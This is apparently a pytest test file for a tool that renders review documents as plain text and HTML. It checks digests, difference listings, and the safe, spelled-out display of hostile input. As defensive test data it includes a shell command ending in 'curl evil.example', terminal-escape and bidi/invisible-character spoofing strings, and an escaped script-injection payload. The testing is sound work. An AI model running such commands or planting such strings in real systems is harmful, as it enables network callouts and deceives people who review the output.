"""The review document: the same facts, the same bytes; bounded; harmless in every form."""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import replace
from html import escape
from html.parser import HTMLParser

import pytest

from animus.domain.canonical import decode_strictly
from animus.domain.digests import format_digest, sha256
from animus.domain.plan_items import PlanContent
from animus.domain.review_differences import difference_section
from animus.domain.review_facts import ReviewFacts
from animus.domain.review_pages import POLICY, write_page
from animus.domain.review_texts import WIDTH, write_text
from animus.domain.reviews import MAX_SHOWN, Listing, Review, read_review
from animus.domain.visible_texts import visible
from animus.domain.wrapped_lines import count_cells
from tests.support.reviews import (
    CASES,
    HOSTILE,
    MANY,
    VECTORS,
    before_of,
    changed,
    facts_of,
    first_of_its_kind,
    hostile,
    one_gate,
    plan_of,
    sealed,
    sealed_of,
    written,
)

ORDER = [
    "question", "request", "authority", "difference", "trials", "unproved", "consent", "digests",
]  # fmt: skip
TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "section",
    "dl", "dt", "dd", "bdi", "del", "ins",
}  # fmt: skip


class Tags(HTMLParser):
    """What a page is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.attributes |= {name for name, _ in attrs}


def listing_of(case: str, *, beginning: str) -> Listing:
    return listing_in(sealed(case).document, beginning=beginning)


def listing_in(review: Review, *, beginning: str) -> Listing:
    (found,) = [
        one
        for section in review.sections
        for one in section.listings
        if one.title.startswith(beginning)
    ]
    return found


@pytest.mark.parametrize("case", CASES)
def test_the_golden_documents_are_written_byte_for_byte(case: str) -> None:
    for ending, content in written(case).items():
        assert (VECTORS / f"{case}.{ending}").read_bytes() == content, (
            f"{case}.{ending} differs. If it is meant to: python -m tests.support.reviews"
        )


@pytest.mark.parametrize("case", CASES)
def test_what_was_stored_has_the_digest_that_was_said(case: str) -> None:
    again = read_review((VECTORS / f"{case}.json").read_bytes())
    assert format_digest(again.digest) == (VECTORS / f"{case}.digest").read_text().strip()
    assert again.document == sealed(case).document


@pytest.mark.parametrize("case", ["changed", "hostile"])
def test_what_an_older_version_froze_is_read_and_shown_as_it_was(case: str) -> None:
    """Their differences were told as JSON pointers: no byte of what was signed changes for that."""
    review = read_review((VECTORS / "stored" / f"{case}.json").read_bytes())
    assert format_digest(review.digest) == (VECTORS / "stored" / f"{case}.digest").read_text()[:-1]
    assert write_text(review) == (VECTORS / "stored" / f"{case}.txt").read_text()
    assert "/body/parameters/" in write_text(review)


def test_the_sections_are_in_the_order_of_reading() -> None:
    for case in CASES:
        assert [section.name for section in sealed(case).document.sections] == ORDER


def test_another_fact_is_another_digest() -> None:
    facts = first_of_its_kind()
    other = replace(facts, asked=replace(facts.asked, ticket="RISK-43"))
    assert sealed_of(facts).digest != sealed_of(other).digest


def test_a_flipped_byte_is_noticed() -> None:
    review = sealed("changed")
    damaged = review.canonical.replace(b"0.03", b"0.04")
    assert damaged != review.canonical
    assert read_review(damaged).digest != review.digest


def test_without_an_approved_plan_it_is_the_first_of_its_kind() -> None:
    difference = sealed("first_of_its_kind").document.sections[3]
    assert difference.items[0].label == "first of its kind"
    assert difference.listings == ()


def test_each_difference_is_there_once_and_what_is_the_same_is_said() -> None:
    difference = sealed("changed").document.sections[3]
    labels = [item.label for one in difference.listings for item in one.shown]
    assert "rate" in labels
    assert "seed" not in labels
    assert len(set(labels)) == len(labels)
    same = next(item for item in difference.items if item.label == "the same")
    assert same.value == "27 of 40 items"
    assert same.note is not None
    assert "Secrets" in same.note
    assert "Network" not in same.note


@pytest.mark.parametrize("side", ["before", "after", "both", "unknown"])
def test_that_files_of_another_version_were_not_compared_is_said(side: str) -> None:
    facts = changed()
    before = facts.before
    assert before is not None
    assert _not_compared(facts) == []
    if side != "after":
        before = replace(before, content=_without_files(before.content))
    if side != "before":
        facts = replace(facts, content=_without_files(facts.content))
    if side == "unknown":
        before = replace(before, content=replace(before.content, data={}))
    assert _not_compared(replace(facts, before=before)) == ["files of data"]


def test_of_the_same_version_nothing_needs_to_be_compared() -> None:
    facts = first_of_its_kind()
    plan = facts.plan
    assert _not_compared(replace(facts, before=before_of(plan, facts.content))) == []


def _without_files(content: PlanContent) -> PlanContent:
    data = {alias: replace(one, entries=None) for alias, one in content.data.items()}
    return replace(content, data=data)


def _not_compared(facts: ReviewFacts) -> list[str]:
    section = difference_section(facts)
    return [one.label for one in section.items if (one.value or "").startswith("not compared")]


def test_ten_thousand_changed_files_are_counted_exactly_and_shown_in_part() -> None:
    changes = listing_of("many_files", beginning="Data: ")
    assert changes.total == 2 * MANY + 1  # and the version
    assert len(changes.shown) == MAX_SHOWN
    assert changes.title == "Data: 1 changed, 5,000 added, 5,000 removed, 2 the same"
    assert changes.digest is not None
    assert len(sealed("many_files").canonical) < 20_000


@pytest.mark.parametrize("case", CASES)
def test_plain_text_has_only_what_is_drawn_and_no_line_of_others(case: str) -> None:
    lines = write_text(sealed(case)).split("\n")
    assert all(line.isprintable() and count_cells(line) <= WIDTH for line in lines)
    titles = {f"{n}. {one.title}" for n, one in enumerate(sealed(case).document.sections, 1)}
    ours = [line for line in lines if line and not line.startswith((" ", "-"))]
    assert set(ours[2:]) == titles


@pytest.mark.parametrize("case", CASES)
def test_a_page_is_made_of_our_tags_alone(case: str) -> None:
    page = write_page(sealed(case))
    tags = Tags()
    tags.feed(page)
    assert tags.seen == TAGS if case != "first_of_its_kind" else tags.seen <= TAGS
    assert tags.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class"}
    body = page[page.index("</style>") :]
    assert all(char == "\n" or char.isprintable() for char in body)
    assert "url(" not in page
    assert POLICY.startswith("default-src 'none'; style-src 'sha256-")


def test_a_page_keeps_the_blanks_of_a_text_as_they_were_written() -> None:
    """And its style, which says so, is the one that its policy lets in."""
    page = write_page(sealed("hostile"))
    (style,) = re.findall(r"<style>(.*?)</style>", page, flags=re.DOTALL)
    assert "bdi { white-space: pre-wrap; }" in style
    assert b64encode(sha256(style.encode())).decode() in POLICY
    assert f"<bdi>{escape(visible(HOSTILE))}</bdi>" in page
    assert " " * 300 in page


def test_hostile_text_is_kept_as_it_was_said_and_shown_spelled_out() -> None:
    review = sealed_of(hostile())
    request = review.document.sections[1]
    assert next(item.value for item in request.items if item.label == "reason") == HOSTILE
    shown = re.sub(r"\s+", "", write_text(review))
    assert "ok\\x1b[2J\\x1b]0;owned\\x07\\u202egnp.exe\\u2066\\u200b\\u3164" in shown
    page = write_page(review)
    assert "<script" not in page
    assert "<img" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.parametrize(
    "text", ["a\u200bb", "a\u2066b", "a\u00adb", "a\ufe0fb", "a\U000e0101b", "a\u115fb", "a\u2800b"]
)
def test_what_cannot_be_seen_is_spelled_out(text: str) -> None:
    assert re.fullmatch(r"a\\[uUx][0-9a-f]+b", visible(text))


def test_words_of_all_the_world_stay_as_they_are() -> None:
    assert visible("Größe 数据 données שלום ½ 🚀") == "Größe 数据 données שלום ½ 🚀"


def test_a_document_is_read_back_as_it_was_written() -> None:
    review = sealed_of(changed())
    assert decode_strictly(review.canonical) == review.document.content()


def test_nothing_that_a_yes_permits_is_cut() -> None:
    many = [f"h{number:03}" for number in range(MAX_SHOWN + 9)]
    script = f"echo {'x' * 5_000} ; curl evil.example"
    train = {
        "run": ["sh", "-c", script],
        "egress": [f"{name}.example:443" for name in many],
        "env": {name.upper(): "y" * 5_000 + name for name in many},
    }
    judgement = one_gate()
    review = sealed_of(facts_of(plan_of(judgement, train=train), judgement)).document
    hosts = listing_in(review, beginning="Network")
    assert [one.label for one in hosts.shown] == [f"{name}.example:443" for name in many]
    assert script in str(listing_in(review, beginning="Commands").shown)
    variables = listing_in(review, beginning="Environment variables").shown
    assert [str(one.value)[-4:] for one in variables] == many


@pytest.mark.parametrize(
    ("one", "other"), [(["-c", "a b"], ["-c", "a", "b"]), (["a", ""], ["a"]), (["'a'"], ["a"])]
)
def test_two_commands_never_look_the_same(one: list[str], other: list[str]) -> None:
    judgement = one_gate()
    shown = [
        listing_in(
            sealed_of(facts_of(plan_of(judgement, train={"run": run}), judgement)).document,
            beginning="Commands",
        )
        for run in (["sh", *one], ["sh", *other])
    ]
    assert shown[0] != shown[1]
